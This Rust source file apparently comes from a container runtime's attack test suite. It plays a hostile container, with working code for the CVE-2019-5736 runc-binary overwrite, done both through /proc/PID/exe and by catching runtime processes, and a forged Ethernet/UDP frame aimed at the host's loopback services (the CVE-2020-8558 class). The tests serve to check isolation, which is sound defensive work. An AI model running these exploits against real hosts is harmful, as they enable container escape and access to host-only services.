//! A hostile container, played for the attack tests: CVE-2019-5736 both
//! ways (through `/proc/PID/exe` and through a shebang), and a forged
//! frame to the host's loopback (CVE-2020-8558's class).

use crate::{network, read};
use serde_json::{json, Value};
use std::io::Write;

/// Hold an `O_PATH` handle on `/proc/PID/exe` (a runtime process inside the
/// container), then, once that process has exec'd something else and the
/// file is no longer busy, try to open it for writing and write to it.
pub fn attack_exe(pid: &str, out: &str) {
    use nix::fcntl::{open, OFlag};
    use nix::sys::stat::Mode;
    let link = format!("/proc/{pid}/exe");
    let target = std::fs::read_link(&link)
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    let handle = match open(
        link.as_str(),
        OFlag::O_PATH | OFlag::O_CLOEXEC,
        Mode::empty(),
    ) {
        Ok(fd) => fd,
        Err(e) => {
            write_result(
                out,
                json!({ "handle": false, "target": target, "error": e.to_string() }),
            );
            return;
        }
    };
    write_result(
        out,
        json!({ "handle": true, "target": target, "phase": "holding" }),
    );
    let reopen = format!("/proc/self/fd/{handle}");
    let mut last = String::new();
    for _ in 0..1000 {
        match std::fs::OpenOptions::new().write(true).open(&reopen) {
            Ok(mut f) => match f.write_all(b"PWNED") {
                Ok(()) => {
                    write_result(
                        out,
                        json!({ "handle": true, "target": target, "phase": "done", "opened": true, "wrote": true }),
                    );
                    return;
                }
                Err(e) => last = format!("write: {e}"),
            },
            Err(e) => last = format!("open: {e}"),
        }
        // ETXTBSY while the runtime still runs it: wait for its exec.
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    write_result(
        out,
        json!({ "handle": true, "target": target, "phase": "done", "wrote": false, "last_error": last }),
    );
}

pub fn attack_shebang(out: &str, secs: u64) {
    use nix::sys::signal::{kill, Signal};
    use nix::unistd::Pid;
    let me = std::process::id();
    let my_cgroup = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    let mut caught = 0;
    let mut result = json!({ "caught": 0, "wrote": false, "phase": "waiting" });
    write_result(out, result.clone());
    while std::time::Instant::now() < deadline {
        // Our cgroup's processes (a small file, read fast enough to catch a
        // process that lives a few milliseconds), else every process.
        let pids: Vec<u32> = [
            "/sys/fs/cgroup/pids/cgroup.procs",
            "/sys/fs/cgroup/cgroup.procs",
        ]
        .iter()
        .find_map(|f| std::fs::read_to_string(f).ok())
        .map(|s| s.lines().filter_map(|l| l.trim().parse().ok()).collect())
        .unwrap_or_else(|| {
            std::fs::read_dir("/proc")
                .map(|d| {
                    d.flatten()
                        .filter_map(|e| e.file_name().to_str()?.parse().ok())
                        .collect()
                })
                .unwrap_or_default()
        });
        for pid in pids {
            if pid == me {
                continue;
            }
            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            if !cmdline.starts_with(b"/proc/self/exe\0") {
                continue;
            }
            // Only processes of our own container (its cgroup).
            let cg = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap_or_default();
            if cg != my_cgroup {
                continue;
            }
            let target = Pid::from_raw(pid as i32);
            let _ = kill(target, Signal::SIGSTOP);
            let link = format!("/proc/{pid}/exe");
            let handle = nix::fcntl::open(
                link.as_str(),
                nix::fcntl::OFlag::O_PATH | nix::fcntl::OFlag::O_CLOEXEC,
                nix::sys::stat::Mode::empty(),
            );
            let exe = std::fs::read_link(&link)
                .map(|p| p.display().to_string())
                .unwrap_or_default();
            let _ = kill(target, Signal::SIGKILL);
            let Ok(handle) = handle else {
                continue;
            };
            caught += 1;
            // Once it is gone the file is no longer busy (ETXTBSY).
            let reopen = format!("/proc/self/fd/{handle}");
            let mut last = String::new();
            let mut wrote = false;
            for _ in 0..200 {
                match std::fs::OpenOptions::new().write(true).open(&reopen) {
                    Ok(mut f) => match f.write_all(b"PWNED") {
                        Ok(()) => {
                            wrote = true;
                            break;
                        }
                        Err(e) => last = format!("write: {e}"),
                    },
                    Err(e) => last = format!("open: {e}"),
                }
                if !last.contains("busy") {
                    break;
                }
                std::thread::sleep(std::time::Duration::from_millis(5));
            }
            let _ = nix::unistd::close(handle);
            result = json!({ "caught": caught, "exe": exe, "wrote": wrote, "last_error": last, "phase": "tried" });
            write_result(out, result.clone());
            if wrote {
                return;
            }
        }
    }
    result["phase"] = json!("done");
    write_result(out, result);
}

pub fn write_result(out: &str, v: Value) {
    let tmp = format!("{out}.tmp");
    if std::fs::write(&tmp, v.to_string()).is_ok() {
        let _ = std::fs::rename(&tmp, out);
    }
}

/// Play a hostile container (CVE-2020-8558's class): forge a UDP datagram
/// to `dst` (a host loopback address) and send it as an Ethernet frame to
/// the default gateway's MAC on eth0, which an address lookup would never
/// do. A host that routes loopback addresses out of the bridge
/// (route_localnet) would deliver it to its own 127.0.0.1 services unless
/// a rule drops it. Exits 0 once the frame is sent.
pub fn forge_udp(dst: &str, port: u16, payload: &str) {
    let fail = |m: String| -> ! {
        eprintln!("capsa-probe: forge-udp: {m}");
        std::process::exit(1)
    };
    let dst: std::net::Ipv4Addr = dst
        .parse()
        .unwrap_or_else(|_| fail(format!("{dst}: not IPv4")));
    let net = network();
    let src: std::net::Ipv4Addr = net["addresses"][0]
        .as_str()
        .and_then(|a| a.parse().ok())
        .unwrap_or_else(|| fail("no address on eth0".into()));
    let gw = net["gateway"]
        .as_str()
        .unwrap_or_else(|| fail("no default route".into()));
    // The gateway's MAC, from the neighbour table (the caller pings it first).
    let arp = read("/proc/net/arp").unwrap_or_default();
    let mac_of = |text: &str| -> Option<[u8; 6]> {
        let b: Vec<u8> = text
            .split(':')
            .filter_map(|x| u8::from_str_radix(x, 16).ok())
            .collect();
        b.try_into().ok()
    };
    let gw_mac = arp
        .lines()
        .skip(1)
        .find_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.first() == Some(&gw))
                .then(|| f.get(3).and_then(|m| mac_of(m)))
                .flatten()
        })
        .unwrap_or_else(|| fail(format!("{gw} not in /proc/net/arp")));
    let own_mac = read("/sys/class/net/eth0/address")
        .and_then(|m| mac_of(m.trim()))
        .unwrap_or_else(|| fail("no eth0 MAC".into()));
    let udp_len = 8 + payload.len();
    let total = 20 + udp_len;
    let mut ip = vec![
        0x45,
        0,
        (total >> 8) as u8,
        total as u8,
        0,
        0,
        0x40,
        0,
        64,
        17,
        0,
        0,
    ];
    ip.extend(src.octets());
    ip.extend(dst.octets());
    let sum = ip
        .chunks(2)
        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
        .sum::<u32>();
    let folded = (sum & 0xffff) + (sum >> 16);
    let check = !(((folded & 0xffff) + (folded >> 16)) as u16);
    ip[10..12].copy_from_slice(&check.to_be_bytes());
    let mut frame = Vec::with_capacity(14 + total);
    frame.extend(gw_mac);
    frame.extend(own_mac);
    frame.extend([0x08, 0x00]);
    frame.extend(ip);
    frame.extend(40000u16.to_be_bytes());
    frame.extend(port.to_be_bytes());
    frame.extend((udp_len as u16).to_be_bytes());
    frame.extend([0, 0]); // no UDP checksum: allowed over IPv4
    frame.extend(payload.as_bytes());
    capsa_sys::net::send_frame("eth0", &frame)
        .unwrap_or_else(|e| fail(format!("send on eth0: {e}")));
}
